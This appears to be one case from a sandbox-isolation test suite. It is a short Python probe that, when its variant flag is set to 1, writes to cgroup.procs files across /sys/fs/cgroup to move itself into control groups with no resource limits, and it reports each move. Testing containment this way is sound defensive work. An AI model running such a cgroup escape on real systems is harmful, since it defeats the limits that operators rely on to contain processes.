"""Moves itself to another control group, where no limit holds."""

from __future__ import annotations

import glob

import kit

VARIANT = 0


def attack(out: str) -> None:
    for path in glob.glob("/sys/fs/cgroup/**/cgroup.procs", recursive=True)[:200]:
        with kit.step(path), open(path, "w") as file:
            file.write("0")
            kit.claim(f"moved to {path}")


out_dir = kit.begin()
if VARIANT == 1:
    attack(out_dir)
kit.finish(out_dir, VARIANT)
